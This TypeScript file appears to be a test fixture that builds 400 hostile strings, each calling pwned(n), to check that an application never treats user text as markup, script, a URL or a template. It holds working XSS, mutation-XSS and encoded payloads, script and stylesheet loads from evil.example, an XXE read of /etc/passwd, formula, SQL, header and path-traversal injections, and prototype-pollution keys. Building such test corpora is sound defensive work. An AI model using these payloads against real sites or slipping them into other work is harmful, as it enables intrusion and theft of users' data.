/* oxlint-disable no-script-url -- addresses that run something are what is tried here */

/**
 * Four hundred texts that try to be more than text. Each runs `pwned(<its number>)` if any part of it is ever taken for markup, a script, a
 * style, an address or a template, and carries a mark by which it is found again where it is shown.
 */
export interface Hostile { readonly mark: string; readonly text: string }

/** The mark of the text with this number. */
const markOf = (number: number): string => `gh${String(number).padStart(3, '0')}x`;

/** Found in anything that shows one of them. */
export const anyMark = /gh\d{3}x/g;

// `!` stands for the call, `§` for the mark where an element or an attribute would get it as its name.
const openers = ['', '">', "'>", '`>', '-->', ']]>', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</template>', '</select>', '</xmp>', '</iframe>', '</svg>', '</math>'];

const elements = [
  '<script>!</script>', '<script src=//evil.example/§.js></script>', '<script type=module>!</script>', '<ScRiPt/**/>!</sCrIpT>', '<script>!', '<img src=x onerror=!>',
  '<img src=x onerror="!" §>', '<image href=x onerror=!>', '<svg onload=!>', '<svg><script>!</script></svg>', '<svg><a xlink:href="javascript:!"><text>§</text></a></svg>',
  '<svg><animate onbegin=! attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:! ><a id=§>', '<svg><foreignObject><iframe srcdoc="<script>parent.!</script>">',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=!>#x">', '<math href="javascript:!">§</math>', '<math><mi xlink:href="data:text/html,!">',
  '<iframe src="javascript:!">', '<iframe srcdoc="<img src=x onerror=parent.!>">', '<object data="javascript:!">', '<embed src="javascript:!">', '<video src=x onerror=!>',
  '<video><source onerror=!>', '<audio src=x onerror=!>', '<body onload=!>', '<frameset onload=!>', '<details open ontoggle=!>', '<input autofocus onfocus=!>',
  '<select autofocus onfocus=!>', '<textarea autofocus onfocus=!>', '<button popovertarget=§ onclick=!>', '<marquee onstart=!>', '<a href="javascript:!">§</a>',
  '<a href="data:text/html,<script>!</script>">§</a>', '<form action="javascript:!"><button>§</button></form>', '<button formaction="javascript:!">§</button>',
  '<meta http-equiv=refresh content="0;url=javascript:!">', '<base href="//evil.example/§/">', '<link rel=stylesheet href="//evil.example/§.css">',
  '<style>@import "//evil.example/§.css";*{background:url(javascript:!)}</style>', '<div style="background:url(javascript:!)" onpointerenter=!>§</div>',
  '<template shadowrootmode=open><script>!</script></template>', '<slot name=§ onslotchange=!>', '<dialog open onclose=!>§</dialog>', '<portal src="javascript:!">', '<x-§ onclick=! tabindex=0>',
  '<guildhall-assessment framework-url="javascript:!">', '<p onpointerrawupdate=! draggable=true ondragstart=!>§',
];

/** Texts that look harmless until they are parsed a second time, or as something else. */
const special = [
  // A parser that reads twice sees another tree the second time.
  '<noscript><p title="</noscript><img src=x onerror=!>">', '<xmp><p title="</xmp><svg/onload=!>">', '<title><p title="</title><img src=x onerror=!>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=!&gt;">', '<svg></p><style><a id="</style><img src=x onerror=!>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=!>', '<svg><style><![CDATA[</style><img src=x onerror=!>]]>', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=!>',
  '<table><td><script>!</script>', '<select><style></select><img src=x onerror=!></style>', '<listing>&lt;img src=x onerror=!&gt;</listing>', '<plaintext><script>!</script>',
  '<textarea><img title="</textarea><img src=x onerror=!>">', '<iframe><img title="</iframe><img src=x onerror=!>">', '<noembed><img title="</noembed><img src=x onerror=!>">', '<!--><img src=x onerror=!>-->',
  '<!--!><script>!</script>', '<![CDATA[<script>!</script>]]>', '<?xml-stylesheet href="javascript:!"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', '<!--#exec cmd="§"-->', '<esi:include src="//evil.example/§">',
  // Written otherwise.
  '&lt;script&gt;!&lt;/script&gt;', '&#60;img src=x onerror=!&#62;', '&#x3c;svg onload=!&#x3e;', '%3Cscript%3E!%3C/script%3E', '%253Cimg%2520onerror%253D!%253E', '+ADw-script+AD4-!+ADw-/script+AD4-',
  '\\u003cscript\\u003e!\\u003c/script\\u003e', '\\x3cimg src=x onerror=!\\x3e', '<\u0000script>!</script>', '<scr\u200bipt>!</script>', '＜script＞!＜/script＞', '<img src=x onerror\u0009=\u0009!>', '<img/src=x/onerror=!>', '<img src=x onerror=&#112;wned&lpar;0&rpar;>',
  // Addresses.
  'javascript:!', 'JaVaScRiPt:!', ' javascript:!', 'java\tscript:!', 'javascript&colon;!', 'javascript://%0a!', 'javascript:/*--></title></style></textarea></script><svg/onload=!>*/', 'data:text/html,<script>!</script>', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'vbscript:!', 'blob:https://evil.example/§', 'filesystem:https://evil.example/§', 'view-source:javascript:!', '//evil.example/§', 'https://evil.example/§?!', '\\\\evil.example\\§',
  // Out of an attribute, a string or a comment.
  '" onpointerover="!" x="', "' onpointerover='!' x='", '` onpointerover=! x=', '" autofocus onfocus=! x="', "');!;//", '");!;//', "'-!-'", '"+!+"', '*/!/*', '\n!\n', '\u2028!\u2029', '</script><script>!</script>', 'expression(!)', 'url("javascript:!")', '};!;{', '\\";!;//',
  // Templates.
  '{{!}}', "{{constructor.constructor('!')()}}", '${!}', '#{!}', '<%= ! %>', '{% ! %}', '[[!]]', '@(!)', '*{!}', '{count, plural, other {<img src=x onerror=!>}}', '{0} {name} {count}', "{'<img src=x onerror=!>'}", '<b>{name}</b>', '%s %d %o', '$& $1 $`', '{% raw %}<script>!</script>',
  // Direction, and what cannot be seen.
  '\u202e<script>!</script>\u202c', '\u2066<img src=x onerror=!>\u2069', 'left\u200fright\u200eleft', '\u202dgnirts\u202c', '\ufeff<svg onload=!>', '\u200b\u200c\u200d\u2060!', 'e\u0301\u0301\u0301\u0301\u0301!', '😀!', '𝒑𝒘𝒏𝒆𝒅', '﷽﷽﷽!',
  // Names that every object answers to.
  '__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', '__defineGetter__', 'valueOf', '{"__proto__":{"polluted":true}}', 'constructor.prototype.polluted', '[object Object]', 'undefined', 'null', 'NaN',
  // Other readers of the same text.
  '[§](javascript:!)', '![§](x"onerror="!)', '<javascript:!>', '[x]: javascript:!', '=HYPERLINK("javascript:!")', "=cmd|'/c calc'!A1", '@SUM(1+1)*!', '\u001b]8;;javascript:!\u0007§\u001b]8;;\u0007', "'; DROP TABLE answers; --", '../../../etc/passwd', 'on\nerror=!', '\r\nX-Injected: !',
];

/** All of them, the same ones each time. */
export const hostileWords: readonly Hostile[] = [...special, ...openers.flatMap((opener) => elements.map((element) => opener + element))]
  // Every opener and every element is among the first four hundred.
  .map((pattern, i, all) => (i < special.length ? pattern : all[special.length + ((i - special.length) * 131) % (all.length - special.length)] ?? pattern))
  .slice(0, 400)
  .map((pattern, number) => {
    const mark = markOf(number);
    // The call holds no space and no quotation mark, so that it fits into every place.
    return { mark, text: `${pattern.replaceAll('!', `pwned(${number})`).replaceAll('§', mark)} ${mark}` };
  });
